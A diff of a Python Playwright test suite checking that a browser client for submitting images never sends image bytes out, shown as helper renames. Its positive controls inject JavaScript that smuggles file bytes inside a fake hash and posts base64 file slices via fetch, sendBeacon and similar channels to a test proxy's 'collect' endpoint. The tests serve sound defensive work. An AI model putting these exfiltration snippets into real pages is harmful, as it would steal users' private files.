@@ -1,4 +1,4 @@
-"""The image never leaves the device: every byte that the browser sends is searched for it."""
+"""No image leaves the device: everything that the browser sends is searched for its bytes."""
 
 import base64
 from urllib.parse import quote_from_bytes
@@ -7,59 +7,61 @@ import numpy as np
 import pytest
 from playwright.sync_api import Page
 
-from clients.browser.assemble import FRAME_POLICY, PAGE_POLICY, assemble, read_sources
+from clients.browser.assemble import PAGE_POLICY, PICKER_POLICY, assemble, read_sources
 
-from .leaks import WINDOW, leaked
-from .person import WORDS, Person, file
-from .pictures import photo
-from .relay import Relay
+from .drawn_images import photo
+from .leak_search import WINDOW, find_leaks
+from .person import TEXTS, Person, file
+from .recording_proxy import RecordingProxy
 
 PHOTO = photo(3)
 
 
 def walk_through(person: Person) -> None:
-    """Do all there is to do: submit two images, look, withdraw one, withdraw all."""
-    person.begin()
+    """Use every function: submit two images, look at the case, withdraw one, withdraw all."""
+    person.start()
     person.choose(file("one.jpg", PHOTO), file("two.jpg", photo(4)))
     person.review()
     person.submit()
-    person.press(WORDS["done"]["look"])
+    person.press(TEXTS["done"]["look"])
     person.press("Withdraw image 1")
-    person.press(WORDS["case"]["yes"])
-    person.press(WORDS["case"]["withdraw-all"])
-    person.press(WORDS["case"]["yes"])
-    person.page.get_by_text(WORDS["case"]["did"]).wait_for()
+    person.press(TEXTS["case"]["yes"])
+    # The response redraws the screen, and would take an open question with it.
+    person.page.get_by_text(TEXTS["case"]["did"]).wait_for()
+    person.press(TEXTS["case"]["withdraw-all"])
+    person.press(TEXTS["case"]["yes"])
+    person.page.get_by_text(TEXTS["case"]["did"]).wait_for()
 
 
-def test_no_part_of_an_image_leaves_the_browser(person: Person, relay: Relay) -> None:
+def test_no_part_of_an_image_leaves_the_browser(person: Person, proxy: RecordingProxy) -> None:
     walk_through(person)
-    assert len(relay.calls("POST")) == 1
-    assert len(relay.calls("DELETE")) == 2
-    assert leaked(PHOTO, [each.raw for each in relay.requests]) == []
-    assert relay.outsiders == []
+    assert len(proxy.api_requests("POST")) == 1
+    assert len(proxy.api_requests("DELETE")) == 2
+    assert find_leaks(PHOTO, [each.raw for each in proxy.requests]) == []
+    assert proxy.foreign_urls == []
 
 
-# The positive controls: the same search, on a page that was tampered with.
+# Positive controls: the same search on a page that has been tampered with.
 
 SMUGGLE = """
-  file.slice(5000, 5032).bytes().then((bytes) => tell({ kind: "hashed", image: 99, hashes: [
+  file.slice(5000, 5032).bytes().then((bytes) => postToPage({ kind: "hashed", image: 99, hashes: [
     { pdq: Array.from(bytes, (b) => b.toString(16).padStart(2, "0")).join(""),
       quality: 100, view: "original" }] }));
 """
 
 
-def test_bytes_smuggled_out_as_a_hash_would_be_found(page: Page, relay: Relay) -> None:
-    choose_at(page, relay, tampered(SMUGGLE))
+def test_bytes_smuggled_out_as_a_hash_are_found(page: Page, proxy: RecordingProxy) -> None:
+    choose_photo_on(page, proxy, tampered(SMUGGLE))
     person = Person(page)
     person.review()
-    person.agree()
-    # The service may well refuse such a hash: it was sent all the same.
+    person.confirm_statements()
+    # Whether or not the service accepts such a hash, it has been sent.
     with page.expect_response("**/v1/cases"):
-        person.press(WORDS["check"]["send"])
-    assert len(leaked(PHOTO, [relay.calls("POST")[0].raw])) >= 32 - WINDOW + 1
+        person.press(TEXTS["check"]["send"])
+    assert len(find_leaks(PHOTO, [proxy.api_requests("POST")[0].raw])) >= 32 - WINDOW + 1
 
 
-# Bodies of an async function of `file`, `url` and `text`, a part of the file in base64.
+# Bodies of an async function of `file`, `url` and `text` (a part of the file in base64).
 SENDERS = {
     "fetch": "await fetch(url, { method: 'POST', mode: 'no-cors', body: file })",
     "beacon": "navigator.sendBeacon(url, text)",
@@ -83,7 +85,7 @@ SENDERS = {
     "[`fetch('${url}${text}').catch(() => 0)`])))",
 }
 NO_POLICY = "img-src *"
-SENDING = """
+SEND_TEMPLATE = """
   file.slice(0, 600).arrayBuffer().then(async (bytes) => {
     const url = "ADDRESS/collect-NAME?";
     const text = btoa(String.fromCharCode(...new Uint8Array(bytes)));
@@ -93,48 +95,48 @@ SENDING = """
 
 
 def tampered(code: str, **policies: str) -> str:
-    """Assemble the page with foreign code that runs on every file that is chosen."""
+    """Return the page with extra code that runs on every chosen file."""
     sources = read_sources()
-    place = "  for (const file of files) {\n"
-    assert place in sources["frame.js"]
-    sources["frame.js"] = sources["frame.js"].replace(place, place + code + ";\n")
+    loop = "  for (const file of files) {\n"
+    assert loop in sources["picker/picker.js"]
+    sources["picker/picker.js"] = sources["picker/picker.js"].replace(loop, loop + code + ";\n")
     return assemble(sources, **policies)
 
 
-def choose_at(page: Page, relay: Relay, tampered_page: str) -> None:
-    """Choose a photo at another page, and give its code the time to send."""
-    relay.page = tampered_page
+def choose_photo_on(page: Page, proxy: RecordingProxy, tampered_page: str) -> None:
+    """Choose a photo on a tampered page, and give its code time to send."""
+    proxy.page = tampered_page
     page.reload()
     person = Person(page)
-    person.begin()
-    person.frame.locator("input[type=file]").set_input_files(file("one.jpg", PHOTO))
+    person.start()
+    person.picker.locator("input[type=file]").set_input_files(file("one.jpg", PHOTO))
     page.wait_for_timeout(1_000)
 
 
-def senders(relay: Relay, *names: str) -> str:
-    texts = [SENDING.replace("NAME", name).replace("BODY", SENDERS[name]) for name in names]
-    return "\n".join(texts).replace("ADDRESS", relay.address)
+def sending_code(proxy: RecordingProxy, *names: str) -> str:
+    texts = [SEND_TEMPLATE.replace("NAME", name).replace("BODY", SENDERS[name]) for name in names]
+    return "\n".join(texts).replace("ADDRESS", proxy.address)
 
 
-def test_tampered_code_cannot_send(page: Page, relay: Relay) -> None:
-    choose_at(page, relay, tampered(senders(relay, *SENDERS)))
-    assert not [each.url for each in relay.requests if "collect" in each.url]
-    assert not leaked(PHOTO, [each.raw for each in relay.requests])
+def test_tampered_code_cannot_send(page: Page, proxy: RecordingProxy) -> None:
+    choose_photo_on(page, proxy, tampered(sending_code(proxy, *SENDERS)))
+    assert not [each.url for each in proxy.requests if "collect" in each.url]
+    assert not find_leaks(PHOTO, [each.raw for each in proxy.requests])
 
 
-def test_without_the_policy_the_same_code_is_caught(page: Page, relay: Relay) -> None:
+def test_without_the_policy_the_same_code_is_found(page: Page, proxy: RecordingProxy) -> None:
     staying = [name for name in SENDERS if name not in ("form", "navigation", "top", "window")]
-    code = senders(relay, *staying)
-    choose_at(page, relay, tampered(code, page_policy=NO_POLICY, frame_policy=NO_POLICY))
-    caught = {each.path.partition("collect-")[2]: each.raw for each in relay.requests}
+    code = sending_code(proxy, *staying)
+    choose_photo_on(page, proxy, tampered(code, page_policy=NO_POLICY, picker_policy=NO_POLICY))
+    caught = {each.path.partition("collect-")[2]: each.raw for each in proxy.requests}
     for name in set(staying) - {"socket", "prefetch"}:
-        assert leaked(PHOTO, [caught[name]]), name
+        assert find_leaks(PHOTO, [caught[name]]), name
 
 
-def test_a_navigation_of_the_frame_would_be_caught(page: Page, relay: Relay) -> None:
-    code = senders(relay, "navigation")
-    choose_at(page, relay, tampered(code, page_policy=NO_POLICY, frame_policy=NO_POLICY))
-    assert leaked(PHOTO, [each.raw for each in relay.requests])
+def test_without_the_policy_a_navigation_is_found(page: Page, proxy: RecordingProxy) -> None:
+    code = sending_code(proxy, "navigation")
+    choose_photo_on(page, proxy, tampered(code, page_policy=NO_POLICY, picker_policy=NO_POLICY))
+    assert find_leaks(PHOTO, [each.raw for each in proxy.requests])
 
 
 @pytest.mark.parametrize(
@@ -149,19 +151,19 @@ def test_a_navigation_of_the_frame_would_be_caught(page: Page, relay: Relay) -> 
         quote_from_bytes(base64.b64encode(PHOTO[900:930])).encode(),
     ],
 )
-def test_the_search_finds_every_way_to_write_it_down(encoded: bytes) -> None:
-    assert leaked(PHOTO, [b"GET /?q=" + encoded + b"&r=1 HTTP/1.1"])
+def test_the_search_finds_every_encoding(encoded: bytes) -> None:
+    assert find_leaks(PHOTO, [b"GET /?q=" + encoded + b"&r=1 HTTP/1.1"])
 
 
 def test_the_search_finds_nothing_in_another_file() -> None:
     other = np.random.default_rng(1).bytes(100_000)
-    assert leaked(PHOTO, [other, base64.b64encode(other), other.hex().encode()]) == []
+    assert find_leaks(PHOTO, [other, base64.b64encode(other), other.hex().encode()]) == []
 
 
-def test_the_policies_name_no_source_but_what_is_needed() -> None:
-    for policy in (PAGE_POLICY, FRAME_POLICY):
+def test_the_policies_allow_no_other_source() -> None:
+    for policy in (PAGE_POLICY, PICKER_POLICY):
         assert policy.startswith("default-src 'none';")
         assert "unsafe" not in policy
         assert "http" not in policy
-    assert "connect-src" not in FRAME_POLICY
-    assert "'self'" not in FRAME_POLICY
+    assert "connect-src" not in PICKER_POLICY
+    assert "'self'" not in PICKER_POLICY
